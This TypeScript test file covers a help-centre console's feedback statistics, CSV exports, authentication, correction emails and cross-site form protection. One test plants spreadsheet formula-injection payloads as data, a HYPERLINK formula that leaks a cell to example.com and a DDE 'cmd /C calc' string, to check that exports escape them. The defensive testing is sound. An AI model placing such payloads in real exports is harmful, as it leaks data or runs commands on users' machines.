import { randomUUID } from "node:crypto";
import { createKey } from "../../server/api-keys.ts";
import type { FeedbackReason } from "../../server/contract/feedback.ts";
import type { Context } from "../../server/context.ts";
import { forgetOld } from "../../server/knowledge/forget-old.ts";
import { startOutbox } from "../../server/mail/outbox.ts";
import { postForm, signedIn } from "../console.ts";
import { expect, test } from "../fixtures.ts";

interface Said {
  slug?: string;
  locale?: string;
  version?: string;
  reasons?: FeedbackReason[];
  comment?: string;
  email?: string;
  daysAgo?: number;
}

/** What a reader said: without reasons it was helpful. */
async function say(
  { database, clock }: Context,
  { slug = "clear-cache", locale = "en", version = "000000000000", reasons = [], daysAgo = 1, ...said }: Said,
): Promise<string> {
  const id = randomUUID();
  await database.rows(
    `insert into article_feedback (id, slug, locale, version, is_helpful, reasons, comment, email, at)
     values ($1, $2, $3, $4, $5, $6, $7, $8, $9)`,
    [
      id,
      slug,
      locale,
      version,
      reasons.length === 0,
      reasons,
      said.comment ?? null,
      said.email ?? null,
      new Date(clock.now().getTime() - daysAgo * 86_400_000),
    ],
  );
  return id;
}

async function seek(
  { database, clock }: Context,
  words: string,
  { results = 0, opened = null as string | null, hasTicket = false } = {},
): Promise<void> {
  await database.rows(
    `insert into searches (id, locale, place, words, term, results, opened, has_ticket, at)
     values ($1, 'en', 'widget', $2, lower($2), $3, $4, $5, $6)`,
    [randomUUID(), words, results, opened, hasTicket, clock.now()],
  );
}

function presentVersion({ knowledge }: Context): string {
  return knowledge.articles.find(({ slug, locale }) => slug === "clear-cache" && locale === "en")?.hash ?? "";
}

async function withKey(context: Context): Promise<{ authorization: string }> {
  return {
    authorization: `Bearer ${await createKey(context, { name: "nightly-export", permissions: [] })}`,
  };
}

test("a program reads how each article does, and which fail", async ({ app, serverContext }) => {
  const headers = await withKey(serverContext);
  for (let i = 0; i < 3; i += 1) await say(serverContext, {});
  for (let i = 0; i < 4; i += 1) await say(serverContext, { reasons: ["outdated", "unclear"] });
  await say(serverContext, { reasons: ["unclear"], comment: "Which menu?" });
  await say(serverContext, { daysAgo: 100 });
  await say(serverContext, { daysAgo: 300, reasons: ["translation"] });
  for (const hasTicket of [true, false])
    await seek(serverContext, "old page", { results: 2, opened: "clear-cache", hasTicket });

  const { rows } = (await (await app.request("/api/console/knowledge/articles", { headers })).json()) as {
    rows: { slug: string; locale: string }[];
  };
  expect(rows).toHaveLength(serverContext.knowledge.articles.length);
  expect(rows.find(({ slug, locale }) => slug === "clear-cache" && locale === "en")).toMatchObject({
    version: presentVersion(serverContext),
    votes: 8,
    helpful: 3,
    helpfulShare: 0.375,
    earlierShare: 1,
    reasons: { not_solved: 0, unclear: 5, outdated: 4, translation: 0 },
    comments: 1,
    openings: 2,
    tickets: 1,
    isFailing: true,
  });
  const failing = await app.request("/api/console/knowledge/failing-articles?days=30", { headers });
  expect(await failing.json()).toMatchObject({ rows: [{ slug: "clear-cache", locale: "en" }] });
});

test("a program reads what was sought without a result, and what ended in a ticket", async ({
  app,
  serverContext,
  serverClock,
}) => {
  const headers = await withKey(serverContext);
  for (const words of ["Proxy vote", "proxy vote", "paper size"]) {
    await seek(serverContext, words);
    serverClock.moveTo(new Date(serverClock.now().getTime() + 1_000)); // the last spelling is the one that is shown
  }
  await seek(serverContext, "no code", { results: 2, opened: "sms-code-not-received", hasTicket: true });
  await seek(serverContext, "no code", { results: 2, opened: "sms-code-not-received" });
  const read = async (list: string) =>
    (await app.request(`/api/console/knowledge/${list}`, { headers })).json();
  expect(await read("terms-without-result")).toMatchObject({
    rows: [
      { words: "proxy vote", locale: "en", searches: 2 },
      { words: "paper size", searches: 1 },
    ],
  });
  expect(await read("terms-with-ticket")).toMatchObject({
    rows: [{ words: "no code", searches: 2, tickets: 1, opened: "sms-code-not-received" }],
  });
});

test("each list comes as CSV, and no word of a reader becomes a formula", async ({ app, serverContext }) => {
  const headers = await withKey(serverContext);
  const attack = '=HYPERLINK("https://example.com/?"&A1,"see")';
  await say(serverContext, { reasons: ["unclear"], comment: attack, email: "ana@example.com" });
  await seek(serverContext, "@SUM(1+1)*cmd|' /C calc'!A0");
  const read = async (list: string) => {
    const answer = await app.request(`/api/console/knowledge/${list}.csv`, { headers });
    expect(answer.status, list).toBe(200);
    expect(answer.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(answer.headers.get("content-disposition")).toBe(`attachment; filename="${list}.csv"`);
    return answer.text();
  };
  const comments = await read("comments");
  expect(comments).toContain(`"'=HYPERLINK(""https://example.com/?""&A1,""see"")"`);
  expect(comments).not.toContain("ana@example.com");
  expect(await read("terms-without-result")).toContain("'@SUM(1+1)");
  expect((await read("articles")).split("\r\n")[0]).toContain("slug,locale,title,version");
  expect(await read("failing-articles")).toContain("slug,locale,title");
  expect((await read("terms-with-ticket")).trim()).toBe(
    "\ufeffwords,locale,searches,lastAt,tickets,opened".trim(),
  );
});

test("without a key or a session nothing is told, and no unknown list is", async ({ app, serverContext }) => {
  for (const path of ["articles", "comments.csv"]) {
    const bare = await app.request(`/api/console/knowledge/${path}`);
    expect(bare.status).toBe(401);
    expect(bare.headers.get("access-control-allow-origin")).toBeNull();
  }
  const headers = await withKey(serverContext);
  expect((await app.request("/api/console/knowledge/tickets", { headers })).status).toBe(404);
  expect((await app.request("/api/console/knowledge/articles.xlsx", { headers })).status).toBe(404);
  expect((await app.request("/api/console/knowledge/articles?days=0", { headers })).status).toBe(422);
  const page = await app.request("/console/knowledge");
  expect(page.headers.get("location")).toContain("/console/sign-in");
});

test("“fixed in this version” tells whoever left an address, once, and forgets it", async ({
  app,
  serverContext,
  serverClock,
  mailbox,
}) => {
  const { cookie } = await signedIn(serverContext, { name: "Inès Haddad" });
  const chosen = [
    await say(serverContext, { reasons: ["outdated"], comment: "Old menu", email: "ana@example.com" }),
    await say(serverContext, { reasons: ["unclear"], email: "Ana@example.com" }),
    await say(serverContext, { reasons: ["unclear"], comment: "No address" }),
  ];
  const notChosen = await say(serverContext, { reasons: ["translation"], email: "luc@example.com" });
  const present = await say(serverContext, {
    version: presentVersion(serverContext),
    reasons: ["incomplete"],
    comment: "Still no picture",
    email: "mia@example.com",
  });

  const page = await app.request("/console/knowledge/en/clear-cache", { headers: { cookie } });
  const drawn = await page.text();
  for (const id of [...chosen, notChosen].filter((id) => id !== "")) expect(drawn).toContain(`value="${id}"`);
  expect(drawn).not.toContain(`value="${present}"`);
  expect(drawn).not.toContain("@example.com");

  const stop = startOutbox(serverContext);
  for (const expected of ["fixed=3&told=1", "fixed=0&told=0"]) {
    const body = new URLSearchParams([...chosen, present].map((id) => ["comment", id]));
    const answer = await app.request("/console/knowledge/en/clear-cache/fixed", {
      method: "POST",
      body,
      headers: { cookie, "sec-fetch-site": "same-origin" },
    });
    expect(answer.status).toBe(303);
    expect(answer.headers.get("location")).toContain(expected);
  }
  await expect.poll(() => mailbox).toHaveLength(1);
  await stop();
  expect(mailbox[0]).toMatchObject({
    to: "ana@example.com",
    subject: expect.stringMatching(/^Corrected: The page shows an old version/),
    text: expect.stringContaining(`${serverContext.settings.publicUrl}/help/en/clear-cache`),
  });
  expect(mailbox[0]?.text).not.toContain("Old menu");

  const rows = await serverContext.database.rows<{
    id: string;
    email: string | null;
    fixed_in: string | null;
  }>("select id, email, fixed_in from article_feedback");
  const of = (id: string) => rows.find((row) => row.id === id);
  for (const id of chosen)
    expect(of(id)).toMatchObject({ email: null, fixed_in: presentVersion(serverContext) });
  expect(of(notChosen)).toMatchObject({ email: "luc@example.com", fixed_in: null });
  expect(of(present)).toMatchObject({ email: "mia@example.com", fixed_in: null });
  expect(
    await serverContext.database.rows(
      "select actor, action from audit_entries where action = 'article-fixed'",
    ),
  ).toHaveLength(2);

  serverClock.moveTo(new Date(Date.now() + 7 * 86_400_000));
  await forgetOld(serverContext);
  expect(await serverContext.database.rows("select 1 from outbox")).toEqual([]);
});

test("a form on another site marks nothing", async ({ app, serverContext }) => {
  const { cookie } = await signedIn(serverContext, { name: "Inès Haddad" });
  const id = await say(serverContext, { reasons: ["unclear"], email: "ana@example.com" });
  const forged = await postForm(
    app,
    "/console/knowledge/en/clear-cache/fixed",
    { comment: id },
    { cookie, "sec-fetch-site": "cross-site" },
  );
  expect(forged.status).toBe(403);
});

test("a program marks what the present version mends", async ({ app, serverContext }) => {
  const headers = { ...(await withKey(serverContext)), "content-type": "application/json" };
  await say(serverContext, { locale: "fr", reasons: ["unclear"], email: "ana@example.com" });
  const mark = (path: string, body: object) =>
    app.request(`/api/console/knowledge/articles/${path}/fixed`, {
      method: "POST",
      headers,
      body: JSON.stringify(body),
    });
  expect(await (await mark("fr/clear-cache", {})).json()).toEqual({ fixed: 1, told: 1 });
  const [mail] = await serverContext.database.rows<{ subject: string }>("select subject from outbox");
  expect(mail?.subject).toMatch(/^Corrigé\u00a0: La page affiche/);
  expect((await mark("fr/no-such-article", {})).status).toBe(404);
  expect((await mark("fr/clear-cache", { commments: [] })).status).toBe(422);
});
